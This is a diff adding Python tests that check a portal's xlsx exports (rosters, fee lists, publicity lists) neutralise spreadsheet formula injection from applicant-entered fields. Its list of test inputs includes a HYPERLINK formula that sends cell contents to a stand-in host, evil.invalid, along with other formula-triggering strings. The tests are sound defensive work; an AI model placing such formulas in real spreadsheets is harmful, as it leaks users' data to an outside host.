@@ -226,3 +226,59 @@ def test_same_data_same_bytes(reference):
     assert render_roster_xlsx(once) == render_roster_xlsx(twice)
     assert render_roster_pdf(once).content == render_roster_pdf(twice).content
 
+
+
+# --- Formula injection (issue 13) --------------------------------------------------------------
+
+EVIL = ['=HYPERLINK("http://evil.invalid/?"&D5&E5,"巴州建筑设计研究院")', "=2+3", "+1+1", "-2+3", "@SUM(A1:A2)",
+        "\t=1+1", "\r=1+1"]
+
+
+def _cells(content: bytes):
+    book = workbook(content)
+    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+
+
+def assert_no_formula(content: bytes) -> list[str]:
+    """No cell is a formula and no text would become one when edited; returns the texts."""
+    cells = _cells(content)
+    assert cells
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    texts = [c.value for c in cells if isinstance(c.value, str)]
+    assert [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
+    return texts
+
+
+def test_roster_and_fee_list_xlsx_hold_no_formula_whatever_the_applicant_typed(reference):
+    unit = UnitFactory(name=EVIL[0])
+    apps = bulk_accepted(len(EVIL), unit=unit)
+    from applications.models import Application
+
+    for app, evil in zip(apps, EVIL, strict=True):
+        Application.objects.filter(pk=app.pk).update(snapshot={
+            **app.snapshot, "unit_name": evil, "ethnicity": "=2+3", "graduation": evil, "current_title": "@cmd",
+            "remarks": evil, "name": evil})
+    campaign = load_campaign(Campaign.objects.get(code="demo").pk)
+    roster = render_roster_xlsx(roster_for(campaign=campaign, scope=unit_scope(unit), generated_on=TODAY).as_data())
+    texts = assert_no_formula(roster)
+    assert "'=2+3" in texts and "'" + EVIL[0] in texts  # kept, readable, and inert
+    fees = render_fee_list_xlsx(fee_list_for(campaign=campaign, scope=unit_scope(unit), generated_on=TODAY).as_data())
+    assert "'" + EVIL[1] in assert_no_formula(fees)
+
+
+def test_spreadsheet_neutralise_leaves_ordinary_text_alone():
+    from portal.spreadsheet import neutralise
+
+    assert [neutralise(t) for t in ("巴州建筑设计研究院", "—", "2026-09-01", "a=b")] == \
+        ["巴州建筑设计研究院", "—", "2026-09-01", "a=b"]
+    assert [neutralise(t) for t in EVIL] == ["'" + t for t in EVIL]
+
+
+def test_results_publicity_xlsx_holds_no_formula_whatever_the_names():
+    from review.aftercare.exports import COLUMNS, publicity_list_xlsx
+
+    rows = [[n, evil, "=1", evil, "工程系列", evil, "中级", "@x", "通过"] for n, evil in enumerate(EVIL, start=1)]
+    data = {"title": "=TITLE()", "intro": "-1", "period": "+2", "contacts": "@联系人", "committee": EVIL[0],
+            "dated": "2026年12月1日", "columns": COLUMNS, "rows": rows}
+    texts = assert_no_formula(publicity_list_xlsx(data))
+    assert "'" + EVIL[0] in texts and "'=TITLE()" in texts
